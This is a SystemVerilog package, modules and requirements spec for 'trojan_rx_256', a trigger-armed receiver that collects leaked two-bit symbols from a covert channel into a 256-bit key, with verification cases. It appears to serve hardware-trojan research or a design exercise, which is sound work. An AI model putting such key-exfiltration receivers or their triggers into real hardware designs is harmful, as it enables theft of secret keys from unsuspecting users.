// File: rtl/trojan_rx_pkg.sv
// Shared types and default constants for the trojan_rx_256 key receiver.
// Contents: FSM state enum, default trigger/lead/key-length/timeout values,
//           symbol, key and counter widths.
package trojan_rx_pkg;

  localparam logic [63:0] TRIG_DEF    = 64'h000000000044ab93;
  localparam int unsigned LEAD_DEF    = 5;
  localparam int unsigned NSYM_DEF    = 128;
  localparam int unsigned TIMEOUT_DEF = 16;

  localparam int unsigned SYM_W = 2;
  localparam int unsigned KEY_W = 256;
  localparam int unsigned CNT_W = 8;

  typedef enum logic [1:0] {
    ST_IDLE    = 2'd0,
    ST_WAIT    = 2'd1,
    ST_CAPTURE = 2'd2
  } state_t;

endpackage

// File: rtl/trojan_rx_shift.sv
// Symbol shift register: new symbols enter at the top, older ones move down.
// Ports: i_clk/i_rst_n clock and async reset, i_clr zeroes the register,
//        i_shift accepts i_sym, o_shift_dat is the value after shifting i_sym in.
module trojan_rx_shift
  import trojan_rx_pkg::*;
(
  input  logic             i_clk,
  input  logic             i_rst_n,
  input  logic             i_clr,
  input  logic             i_shift,
  input  logic [SYM_W-1:0] i_sym,
  output logic [KEY_W-1:0] o_shift_dat
);

  // The lowest symbol slot is always shifted out before anything reads it,
  // so only the upper KEY_W-SYM_W bits need storage.
  logic [KEY_W-1:SYM_W] r_sreg;

  assign o_shift_dat = {i_sym, r_sreg};

  always_ff @(posedge i_clk or negedge i_rst_n) begin
    if (!i_rst_n) begin
      r_sreg <= '0;
    end else if (i_clr) begin
      r_sreg <= '0;
    end else if (i_shift) begin
      r_sreg <= o_shift_dat[KEY_W-1:SYM_W];
    end
  end

endmodule

// File: rtl/trojan_rx_256.sv
// Trigger-armed 256-bit key receiver: a data==TRIG match arms it, then after
// LEAD cycles it collects NSYM 2-bit symbols into key (aborts on TIMEOUT idle).
// Ports: clk, rst_n (async assert, sync release), data, sym_valid, sym in;
//        key, key_valid pulse, busy, err_timeout pulse out (all registered).
module trojan_rx_256
  import trojan_rx_pkg::*;
#(
  parameter logic [63:0] TRIG    = TRIG_DEF,
  parameter int unsigned LEAD    = LEAD_DEF,
  parameter int unsigned NSYM    = NSYM_DEF,
  parameter int unsigned TIMEOUT = TIMEOUT_DEF
) (
  input  logic             clk,
  input  logic             rst_n,
  input  logic [63:0]      data,
  input  logic             sym_valid,
  input  logic [SYM_W-1:0] sym,
  output logic [KEY_W-1:0] key,
  output logic             key_valid,
  output logic             busy,
  output logic             err_timeout
);

  localparam logic [CNT_W-1:0] C_LEAD_M1 = CNT_W'(LEAD - 1);
  localparam logic [CNT_W-1:0] C_NSYM_M1 = CNT_W'(NSYM - 1);
  localparam logic [CNT_W-1:0] C_TO_M1   = CNT_W'(TIMEOUT - 1);
  localparam logic [CNT_W-1:0] C_ONE     = CNT_W'(1);

  logic             r_rst_meta;
  logic             r_rst_sync_n;
  state_t           r_state;
  state_t           w_state_nxt;
  logic [CNT_W-1:0] r_wait_cnt;
  logic [CNT_W-1:0] r_sym_cnt;
  logic [CNT_W-1:0] r_idle_cnt;
  logic             w_match;
  logic             w_done;
  logic             w_abort;
  logic             w_shift;
  logic             w_clr;
  logic [KEY_W-1:0] w_shift_dat;

  // Reset asserts immediately but releases two clk edges later.
  always_ff @(posedge clk or negedge rst_n) begin
    if (!rst_n) begin
      r_rst_meta   <= 1'b0;
      r_rst_sync_n <= 1'b0;
    end else begin
      r_rst_meta   <= 1'b1;
      r_rst_sync_n <= r_rst_meta;
    end
  end

  assign w_match = (data == TRIG);

  // State register and counters.
  always_ff @(posedge clk or negedge r_rst_sync_n) begin
    if (!r_rst_sync_n) begin
      r_state    <= ST_IDLE;
      r_wait_cnt <= '0;
      r_sym_cnt  <= '0;
      r_idle_cnt <= '0;
    end else begin
      r_state <= w_state_nxt;

      if (r_state == ST_IDLE && w_match) begin
        r_wait_cnt <= C_LEAD_M1;
      end else if (r_state == ST_WAIT) begin
        r_wait_cnt <= r_wait_cnt - C_ONE;
      end

      if (r_state != ST_CAPTURE || w_done) begin
        r_sym_cnt <= '0;
      end else if (sym_valid) begin
        r_sym_cnt <= r_sym_cnt + C_ONE;
      end

      if (r_state != ST_CAPTURE || sym_valid || w_abort) begin
        r_idle_cnt <= '0;
      end else begin
        r_idle_cnt <= r_idle_cnt + C_ONE;
      end
    end
  end

  // Next state. WAIT leaves on the cycle its count would decrement to zero,
  // which makes the first CAPTURE cycle land exactly LEAD cycles after the
  // match; LEAD of one skips WAIT altogether.
  always_comb begin
    w_state_nxt = r_state;
    case (r_state)
      ST_IDLE: begin
        if (w_match) begin
          w_state_nxt = (LEAD <= 1) ? ST_CAPTURE : ST_WAIT;
        end
      end
      ST_WAIT: begin
        if (r_wait_cnt <= C_ONE) begin
          w_state_nxt = ST_CAPTURE;
        end
      end
      ST_CAPTURE: begin
        if (w_done || w_abort) begin
          w_state_nxt = ST_IDLE;
        end
      end
      default: w_state_nxt = ST_IDLE;
    endcase
  end

  // Decoded controls. Done and abort are exclusive through sym_valid.
  always_comb begin
    w_shift = (r_state == ST_CAPTURE) && sym_valid;
    w_done  = w_shift && (r_sym_cnt == C_NSYM_M1);
    w_abort = (r_state == ST_CAPTURE) && !sym_valid && (r_idle_cnt == C_TO_M1);
    w_clr   = (r_state == ST_IDLE) && w_match;
  end

  always_ff @(posedge clk or negedge r_rst_sync_n) begin
    if (!r_rst_sync_n) begin
      key         <= '0;
      key_valid   <= 1'b0;
      busy        <= 1'b0;
      err_timeout <= 1'b0;
    end else begin
      key_valid   <= w_done;
      err_timeout <= w_abort;
      busy        <= (w_state_nxt != ST_IDLE);
      if (w_done) begin
        key <= w_shift_dat;
      end
    end
  end

  trojan_rx_shift u_shift (
    .i_clk       (clk),
    .i_rst_n     (r_rst_sync_n),
    .i_clr       (w_clr),
    .i_shift     (w_shift),
    .i_sym       (sym),
    .o_shift_dat (w_shift_dat)
  );

endmodule

// File: doc/trojan_rx_256.md
TROJAN_RX_256 -- requirements
Module: trojan_rx_256

Interface
REQ-001 Parameter TRIG, 64'h000000000044ab93: trigger word that arms the receiver.
REQ-002 Parameter LEAD, 5: cycles from the trigger-match cycle to the first symbol-sample cycle.
REQ-003 Parameter NSYM, 128: 2-bit symbols per key.
REQ-004 Parameter TIMEOUT, 16: consecutive cycles with sym_valid low in CAPTURE before abort.
REQ-005 clk  input  1  single clock, rising-edge.
REQ-006 rst_n  input  1  reset, asynchronous, active-low.
REQ-007 data  input  64  observed data bus, compared against TRIG.
REQ-008 sym_valid  input  1  leak symbol qualifier from the channel demodulator.
REQ-009 sym  input  2  leak symbol; the first symbol received is key[1:0].
REQ-010 key  output  256  last fully received key.
REQ-011 key_valid  output  1  one-cycle pulse: key updated.
REQ-012 busy  output  1  high in WAIT or CAPTURE.
REQ-013 err_timeout  output  1  one-cycle pulse: capture aborted.

Function
REQ-014 The FSM SHALL have states IDLE, WAIT and CAPTURE; all outputs SHALL be registered.
REQ-015 In IDLE, data==TRIG SHALL cause the next state to be WAIT and load the wait counter with LEAD-1.
REQ-016 WAIT SHALL decrement once per cycle and SHALL enter CAPTURE with symbol count 0 when the counter is 0, so the first sample cycle is LEAD cycles after the match cycle.
REQ-017 In CAPTURE, each cycle with sym_valid=1 SHALL shift the shift register as {sym, sreg[255:2]} and increment the symbol count (8 bits, range 0..NSYM).
REQ-018 The cycle that accepts symbol NSYM SHALL cause, at the next edge: key<=the final shifted value, key_valid=1 for one cycle, state IDLE, symbol count 0.
REQ-019 In CAPTURE, sym_valid=0 SHALL hold the shift register and increment the idle counter; sym_valid=1 SHALL clear the idle counter.
REQ-020 When the idle counter reaches TIMEOUT, the block SHALL go to IDLE, pulse err_timeout for one cycle, and leave key unchanged.
REQ-021 data==TRIG in WAIT or CAPTURE SHALL be ignored (no restart).
REQ-022 data==TRIG in the cycle key_valid or err_timeout is high SHALL be accepted, because the state is already IDLE.
REQ-023 key SHALL hold its value until the next successful capture.
REQ-024 key_valid and err_timeout SHALL never be high in the same cycle.

Reset
REQ-025 rst_n low SHALL asynchronously force: state IDLE, all counters 0, shift register 0, key 0, key_valid 0, busy 0, err_timeout 0.
REQ-026 Reset asserted mid-WAIT or mid-CAPTURE SHALL discard the partial key without a pulse; reset release SHALL be synchronised to clk.

Structure
REQ-027 A shared package trojan_rx_pkg SHALL hold the state enum, the default TRIG/LEAD/NSYM/TIMEOUT constants, and the symbol width (2).
REQ-028 The 256-bit symbol shift register with its load/shift/clear control SHALL be a sub-module named trojan_rx_shift; the FSM and counters SHALL stay in trojan_rx_256.

Verification
REQ-029 Match at cycle T, then sym=2'b01 with sym_valid=1 for 128 cycles from T+5 -> key_valid at T+5+128; key=256'h5555...5555.
REQ-030 Symbols are the 2-bit slices of K=256'h0123...cdef (repeating pattern), LSB slice first -> key==K; busy high from T+1 through T+132.
REQ-031 sym_valid low for 15 cycles mid-capture, then resumed -> capture completes and key is correct; low for 16 cycles -> err_timeout pulse, key retains its previous value, busy=0.
REQ-032 Second TRIG during CAPTURE at symbol 40 -> no restart, key correct; TRIG in the key_valid cycle -> WAIT entered next cycle.
REQ-033 rst_n low at symbol 100 -> all outputs 0 immediately; a new capture after release produces the correct key.
REQ-034 data=TRIG^64'h1 -> remains IDLE, busy=0.
